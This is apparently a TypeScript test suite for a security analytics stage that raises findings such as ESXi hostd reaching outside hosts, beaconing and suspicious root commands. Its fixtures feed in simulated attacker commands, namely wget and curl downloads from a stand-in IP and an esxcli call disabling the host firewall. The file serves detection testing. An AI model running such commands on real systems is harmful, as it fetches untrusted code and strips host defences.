import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Database } from 'better-sqlite3';
import fc from 'fast-check';
import { addressSet } from '../../../attribution/findings/address-set';
import { DEFAULT_FINDING_RULES, type FindingRules } from '../../../attribution/findings/finding-rules';
import { FindingStage } from '../../../attribution/findings/finding-stage';
import type { Event } from '../../../normalizer/model/facts';
import { openAnalysisForWriting } from '../../../store/analysis/analysis-db';
import type { SessionRecord } from '../../../store/analysis/session-record';
import { SessionStore } from '../../../store/analysis/session-store';
import type { Owner, VerdictRecord } from '../../../store/analysis/verdict-record';
import { VerdictStore } from '../../../store/analysis/verdict-store';
import { FactsDirectory } from '../../../store/facts/facts-directory';
import { FactsSegment } from '../../../store/facts/facts-segment';
import { sessionRecord } from '../../store/analysis/session-records';
import { sleeping } from '../beacons/series';
import { MINUTE, T } from './evidence';

const SEGMENT = '2026-11-24T02-000';
const WEB: Owner = { kind: 'vm', id: 'vm:web', name: 'web1', host: 'esx1' };
const HOSTD: Owner = { kind: 'service', id: 'service:esx1/hostd', name: 'hostd', host: 'esx1' };

const SENT = { bytes: 5000, packets: 12, bytesEstimate: null, packetsEstimate: null };

let directory: string;
let flows: string;

beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), 'ascribe-findings-'));
  flows = join(directory, 'flows');
  mkdirSync(flows);
});
afterEach(() => rmSync(directory, { recursive: true }));

/** A site's database and facts, written as the stages before would. */
class Site {
  readonly db: Database;
  readonly facts: FactsDirectory;
  readonly #segment: FactsSegment;
  readonly #sessions: SessionStore;
  readonly #verdicts: VerdictStore;
  stage: FindingStage;
  #rows = 0;
  #seq = 0;

  constructor(
    name: string,
    readonly rules: FindingRules = DEFAULT_FINDING_RULES,
  ) {
    const own = join(flows, name);
    mkdirSync(own);
    const path = join(own, `${SEGMENT}.db`);
    this.#segment = FactsSegment.create(path, { name: SEGMENT, snapshot: new Uint8Array(0), appliedSeq: 0 });
    this.db = openAnalysisForWriting(join(directory, `${name}.db`));
    this.facts = new FactsDirectory(own);
    this.#sessions = new SessionStore(this.db);
    this.#verdicts = new VerdictStore(this.db);
    this.stage = new FindingStage(this.db, this.facts, rules);
  }

  session(num: number, more: Partial<SessionRecord> = {}): void {
    const record = sessionRecord(num, { revision: ++this.#rows, start: T, end: T, fromA: SENT, fromB: SENT, ...more });
    const fresh = this.db.prepare('SELECT 1 FROM session_row WHERE num = ?').get(num) === undefined;
    const counters = { rows: this.#rows, sessions: num, watermark: T };
    this.#sessions.commit(
      { records: [{ record, fresh }], slices: [], sources: [], ...counters },
      { segment: SEGMENT, lastId: this.#rows },
    );
  }

  verdict(session: number, owner: Owner, more: Partial<VerdictRecord> = {}): void {
    const verdict: VerdictRecord = {
      session,
      start: T,
      status: 'attributed',
      confidence: 0.9,
      owners: [{ owner, weight: 0.9 }],
      reasons: [],
      steps: [],
      source: '0A000005',
      sourcePort: 50_000,
      sources: [],
      legOf: null,
      rule: null,
      ...more,
    };
    this.db.transaction(() => this.#verdicts.write([verdict], T))();
  }

  event(more: Partial<Event>): void {
    const rawSeq = ++this.#seq;
    this.#segment.begin();
    this.#segment.fact({
      fact: 'event',
      rawSeq,
      observedAt: T - 5 * MINUTE,
      timeQuality: 'ok',
      device: 'esx1',
      parser: 'vmware_esxi',
      category: 'process',
      action: 'command',
      user: 'root',
      ...more,
    });
    this.#segment.commit(rawSeq);
  }

  run(): void {
    this.stage.advance(1_000_000);
    while (this.stage.score(1000) > 0);
  }

  restart(): void {
    this.stage = new FindingStage(this.db, this.facts, this.rules);
  }

  /** What people see, without what tells of the order in which it was found. */
  findings(where = 'matches > 0'): Record<string, unknown>[] {
    return this.db
      .prepare(
        `SELECT id, analytic, techniques, severity, owner_id, key, text, terms, first_seen, last_seen, matches, approved_by
        FROM finding WHERE ${where} ORDER BY id`,
      )
      .all() as Record<string, unknown>[];
  }

  close(): void {
    this.facts.close();
    this.#segment.close();
    this.db.close();
  }
}

test('a session of hostd to the outside is one finding, however many sessions there are', () => {
  const site = new Site('a');
  for (const num of [1, 2, 3]) {
    site.session(num, { bPort: 443, start: T + num * MINUTE });
    site.verdict(num, HOSTD);
  }
  site.run();
  const [finding, ...others] = site.findings(`analytic = 'AN0762'`);
  expect(others).toEqual([]);
  expect(finding).toMatchObject({ owner_id: 'service:esx1/hostd', key: '198.51.100.7:443/tcp', matches: 3 });
  expect(finding).toMatchObject({ first_seen: T + MINUTE, last_seen: T + 3 * MINUTE });
  site.close();
});

test('a verdict that changes takes its finding back, and the new one tells', () => {
  const site = new Site('a');
  site.session(1, { bPort: 443 });
  site.verdict(1, HOSTD);
  site.run();
  expect(site.findings().map(({ analytic }) => analytic)).toEqual(['AN0762']);
  site.verdict(1, WEB);
  site.run();
  expect(site.findings()).toEqual([]);
  // What was told stays readable, with no match and a later revision.
  expect(site.findings('matches = 0')).toMatchObject([{ analytic: 'AN0762' }]);
  site.close();
});

test('a command that comes late joins with the session it explains', () => {
  const site = new Site('a');
  site.session(1, { bPort: 443 });
  site.verdict(1, HOSTD);
  site.run();
  site.event({ command: 'wget https://198.51.100.7/x' });
  site.run();
  const late = site.findings();
  const onTime = new Site('b');
  onTime.event({ command: 'wget https://198.51.100.7/x' });
  onTime.session(1, { bPort: 443 });
  onTime.verdict(1, HOSTD);
  onTime.run();
  expect(late.map(({ analytic }) => analytic)).toContain('AN0078');
  expect(late).toEqual(onTime.findings());
  site.close();
  onTime.close();
});

test('a command that comes late joins with all sessions that it may explain, however many they are', () => {
  const site = new Site('a');
  const sessions = 2300;
  site.db.transaction(() => {
    for (let num = 1; num <= sessions; num++) {
      // Hundreds begin in the same millisecond.
      const start = T + Math.floor(num / 400);
      site.session(num, { bPort: 443, start, end: start });
      site.verdict(num, HOSTD, { start });
    }
  })();
  site.run();
  site.event({ command: 'wget https://198.51.100.7/x' });
  site.stage.advance(1);
  site.restart();
  site.run();
  expect(site.findings(`analytic = 'AN0078'`)).toMatchObject([{ matches: sessions }]);
  expect(site.db.prepare('SELECT count(*) FROM finding_reopen_row').pluck().get()).toBe(0);
  site.close();
});

test('a rhythm with a destination that nobody else knows', () => {
  const site = new Site('a');
  const starts = sleeping(300, 0.2, 1);
  starts.forEach((start, i) => {
    const num = i + 1;
    site.session(num, { bPort: 443, start: T + start, end: T + start + 1000 });
    site.verdict(num, WEB, { start: T + start });
  });
  site.run();
  expect(site.findings(`analytic = 'BEACON'`)).toMatchObject([
    { owner_id: 'vm:web', severity: 'high', matches: 1, key: '198.51.100.7:443/6' },
  ]);
  const beacon = site.db.prepare('SELECT answer, sessions, period, dst_ip FROM beacon').get();
  expect(beacon).toMatchObject({ answer: 'beacon', sessions: starts.length, dst_ip: '198.51.100.7' });
  expect((beacon as { period: number }).period).toBeGreaterThan(280);
  expect((beacon as { period: number }).period).toBeLessThan(320);
  site.close();
});

test('the same rhythm of every owner is a service of the site', () => {
  const site = new Site('a');
  let num = 0;
  for (let owner = 1; owner <= 6; owner++) {
    for (const start of sleeping(600, 0.1, owner)) {
      num++;
      site.session(num, { bPort: 443, start: T + start });
      site.verdict(num, { ...WEB, id: `vm:${owner}` }, { start: T + start });
    }
  }
  site.run();
  expect(site.findings(`analytic = 'BEACON'`)).toEqual([]);
  site.close();
});

test('a rhythm that is expected is none of anybody’s business', () => {
  const { values } = DEFAULT_FINDING_RULES;
  const benign = { ...values, BenignDestinations: addressSet(['198.51.100.0/24']) };
  const site = new Site('a', { ...DEFAULT_FINDING_RULES, values: benign });
  sleeping(300, 0.1, 1).forEach((start, i) => {
    site.session(i + 1, { bPort: 443, start: T + start });
    site.verdict(i + 1, WEB, { start: T + start });
  });
  site.run();
  expect(site.findings()).toEqual([]);
  site.close();
});

test('other rules look at history again: sessions, events and series', () => {
  const site = new Site('a');
  sleeping(300, 0.1, 1).forEach((start, i) => {
    site.session(i + 1, { bPort: 443, start: T + start });
    site.verdict(i + 1, HOSTD, { start: T + start });
  });
  site.event({ category: 'authentication', action: 'login', outcome: 'success', sourceIp: '192.0.2.50' });
  site.run();
  expect(site.findings().map(({ analytic }) => analytic)).toEqual(
    expect.arrayContaining(['AN0762', 'AN1640', 'BEACON']),
  );
  const { values } = DEFAULT_FINDING_RULES;
  const allowed = { ...values, AllowedMgmtHosts: addressSet(['198.51.100.7', '192.0.2.50']) };
  const rules = { ...DEFAULT_FINDING_RULES, values: allowed, signature: 'allowed' };
  site.stage = new FindingStage(site.db, site.facts, rules);
  site.run();
  expect(site.findings()).toEqual([]);
  expect(site.findings('matches = 0').length).toBeGreaterThanOrEqual(3);
  site.close();
});

test('the copy of a session behind a translation is not looked at twice', () => {
  const site = new Site('a');
  site.session(1, { bPort: 443 });
  site.session(2, { bPort: 443 });
  site.verdict(1, HOSTD);
  site.verdict(2, HOSTD, { legOf: 1 });
  site.run();
  expect(site.findings()).toMatchObject([{ matches: 1 }]);
  site.close();
});

describe('whatever the order, the batches and the restarts', () => {
  type Action = (site: Site) => void;
  const actions: readonly Action[] = [
    (site) => (site.session(1, { bPort: 443 }), site.verdict(1, HOSTD)),
    (site) => (site.session(2, { bPort: 4444, start: T + MINUTE }), site.verdict(2, HOSTD, { start: T + MINUTE })),
    (site) => (site.session(3, { bPort: 443, handshakeRoom: false }), site.verdict(3, WEB)),
    (site) => site.event({ command: 'esxcli network firewall set --enabled false' }),
    (site) => site.event({ command: 'curl https://198.51.100.7/x', observedAt: T - 2 * MINUTE }),
    (site) => site.event({ action: 'log_loss', command: undefined as never, observedAt: T + MINUTE }),
  ];
  let count = 0;
  const played = (order: readonly number[], pauses: readonly number[]): unknown[] => {
    const site = new Site(`p${count++}`);
    order.forEach((action, i) => {
      actions[action]!(site);
      if (pauses.includes(i)) site.run();
      if (pauses.includes(i + 10)) site.restart();
    });
    site.run();
    const found = site.findings();
    site.close();
    return found;
  };

  test('findings are the same', () => {
    const natural = played(
      actions.map((_, i) => i),
      [],
    );
    expect(natural.length).toBeGreaterThan(4);
    fc.assert(
      fc.property(
        fc.shuffledSubarray(
          actions.map((_, i) => i),
          { minLength: actions.length },
        ),
        fc.array(fc.nat(16), { maxLength: 4 }),
        (order, pauses) => expect(played(order, pauses)).toEqual(natural),
      ),
      { numRuns: 10 },
    );
  });
});
